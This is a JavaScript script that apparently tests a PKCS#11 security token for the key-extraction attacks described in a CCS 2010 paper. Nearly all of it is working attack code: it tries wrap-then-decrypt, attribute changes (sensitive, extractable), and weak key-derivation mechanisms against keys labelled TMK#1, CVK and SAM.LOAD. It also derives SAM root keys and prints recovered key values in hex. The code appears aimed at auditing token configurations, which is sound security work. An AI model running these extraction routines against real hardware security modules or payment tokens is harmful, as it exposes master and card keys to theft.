/**
 * Somebody who holds the user PIN and speaks PKCS#11 to the token himself (Bortolozzo, Centenaro, Focardi, Steel: CCS 2010).
 * Prints one answer an attack. usage: MODULE LABEL, PIN by standard input
 */
import p from 'pkcs11js';
import { openRawSession } from '../raw-session.mjs';

const { module, slot, session } = openRawSession();
const answers = {};
function attempt(name, act) {
  try {
    const value = act();
    answers[name] = Buffer.isBuffer(value) && value.length > 8 ? `OK ${value.toString('hex')}` : 'OK';
    return value;
  } catch (error) {
    answers[name] = /CKR_[A-Z0-9_]+/.exec(error.message)?.[0] ?? error.message;
    return null;
  }
}
module.C_FindObjectsInit(session, [{ type: p.CKA_CLASS, value: p.CKO_SECRET_KEY }]);
const keys = module.C_FindObjects(session, 500);
module.C_FindObjectsFinal(session);

const read = (key, type) => module.C_GetAttributeValue(session, key, [{ type }])[0].value;
const label = (key) => read(key, p.CKA_LABEL).toString();
const byLabel = (name) => keys.find((key) => label(key) === name);
const weak = (keyType, length, ...uses) => [
  { type: p.CKA_CLASS, value: p.CKO_SECRET_KEY },
  { type: p.CKA_KEY_TYPE, value: keyType },
  ...(length === null ? [] : [{ type: p.CKA_VALUE_LEN, value: length }]),
  { type: p.CKA_TOKEN, value: false },
  { type: p.CKA_SENSITIVE, value: false },
  { type: p.CKA_EXTRACTABLE, value: true },
  ...uses.map((use) => ({ type: p[use], value: true })),
];
const change = [
  ['CKA_EXTRACTABLE', true],
  ['CKA_SENSITIVE', false],
  ['CKA_KEY_TYPE', p.CKK_DES2],
  ['CKA_NEVER_EXTRACTABLE', true],
  ['CKA_WRAP', true],
  ['CKA_DECRYPT', true],
  ['CKA_UNWRAP', true],
];
const own = attempt('make a key with WRAP and DECRYPT', () =>
  module.C_GenerateKey(
    session,
    { mechanism: p.CKM_AES_KEY_GEN },
    weak(p.CKK_AES, 16, 'CKA_WRAP', 'CKA_UNWRAP', 'CKA_DECRYPT', 'CKA_ENCRYPT'),
  ),
);
const cbc = { mechanism: p.CKM_AES_CBC, parameter: Buffer.alloc(16) };
const keyWrap = { mechanism: p.CKM_AES_KEY_WRAP };
for (const key of keys) {
  const name = label(key);
  attempt(`${name} read`, () => read(key, p.CKA_VALUE));
  attempt(`${name} wrap by own CBC`, () => module.C_WrapKey(session, cbc, own, key, Buffer.alloc(64)));
  attempt(`${name} wrap by own KEY_WRAP`, () => module.C_WrapKey(session, keyWrap, own, key, Buffer.alloc(64)));
  attempt(`${name} wraps TMK`, () => module.C_WrapKey(session, cbc, key, byLabel('TMK#1'), Buffer.alloc(64)));
  attempt(`${name} unwraps weak`, () => module.C_UnwrapKey(session, cbc, key, Buffer.alloc(16), weak(p.CKK_AES, null)));
}
const master = byLabel('TMK#1');
for (const [type, value] of change) {
  attempt(`copy ${type}`, () =>
    module.C_CopyObject(session, master, [
      { type: p.CKA_TOKEN, value: false },
      { type: p[type], value },
    ]),
  );
  // On a session copy, so that an attack that works leaves the token as it was.
  const copy = module.C_CopyObject(session, master, [{ type: p.CKA_TOKEN, value: false }]);
  attempt(`set ${type}`, () => module.C_SetAttributeValue(session, copy, [{ type: p[type], value }]));
  if (type === 'CKA_DECRYPT')
    attempt('decrypt after set', () => {
      module.C_DecryptInit(session, { mechanism: p.CKM_AES_ECB }, copy);
      return module.C_Decrypt(session, Buffer.alloc(16), Buffer.alloc(16));
    });
}
attempt('set CKA_EXTRACTABLE in the token', () =>
  module.C_SetAttributeValue(session, master, [{ type: p.CKA_EXTRACTABLE, value: true }]),
);
attempt('set CKA_SENSITIVE in the token', () =>
  module.C_SetAttributeValue(session, master, [{ type: p.CKA_SENSITIVE, value: false }]),
);
const other = module.C_OpenSession(slot, p.CKF_SERIAL_SESSION | p.CKF_RW_SESSION);
attempt('decrypt', () => module.C_DecryptInit(other, { mechanism: p.CKM_AES_ECB }, master));
attempt('encrypt', () => module.C_EncryptInit(other, { mechanism: p.CKM_AES_ECB }, master));
for (const name of [
  'CKM_XOR_BASE_AND_DATA',
  'CKM_CONCATENATE_BASE_AND_DATA',
  'CKM_CONCATENATE_DATA_AND_BASE',
  'CKM_CONCATENATE_BASE_AND_KEY',
  'CKM_EXTRACT_KEY_FROM_KEY',
])
  attempt(name, () =>
    module.C_DeriveKey(
      session,
      { mechanism: p[name], parameter: Buffer.alloc(16) },
      master,
      weak(p.CKK_GENERIC_SECRET, 16),
    ),
  );
const derive = (base, keyType, length) => {
  const parameter = { type: p.CK_PARAMS_AES_CBC, iv: Buffer.alloc(16), data: Buffer.alloc(16, 1) };
  const mechanism = { mechanism: p.CKM_AES_CBC_ENCRYPT_DATA, parameter };
  return read(module.C_DeriveKey(session, mechanism, base, weak(keyType, length)), p.CKA_VALUE);
};
attempt('derive a readable child', () => derive(master, p.CKK_AES, 16));
attempt('derive a DES child', () => derive(master, p.CKK_DES, null));
attempt('derive a one-byte child', () => derive(master, p.CKK_GENERIC_SECRET, 1));
attempt('derive from CVK', () =>
  derive(byLabel('CVK#1') ?? keys.find((key) => label(key).startsWith('CVK')), p.CKK_AES, 16),
);
// sam-roots.ts: root = E(L, B); B is a data object that the PIN reads, L has DERIVE.
module.C_FindObjectsInit(session, [{ type: p.CKA_CLASS, value: p.CKO_DATA }]);
const blocks = module.C_FindObjects(session, 500);
module.C_FindObjectsFinal(session);
const loading = keys.find((key) => label(key).startsWith('SAM.LOAD'));
const samRoots = [];
for (const block of blocks) {
  const data = read(block, p.CKA_VALUE);
  if (loading === undefined || data.length !== 16) continue;
  const parameter = { type: p.CK_PARAMS_AES_CBC, iv: Buffer.alloc(16), data };
  const mechanism = { mechanism: p.CKM_AES_CBC_ENCRYPT_DATA, parameter };
  const child = attempt('derive from SAM.LOAD', () =>
    module.C_DeriveKey(session, mechanism, loading, weak(p.CKK_AES, 16)),
  );
  if (child !== null) samRoots.push(read(child, p.CKA_VALUE).toString('hex'));
}
const labels = keys.map(label);
module.C_Finalize();
process.stdout.write(JSON.stringify({ labels, answers, blocks: blocks.length, samRoots }));
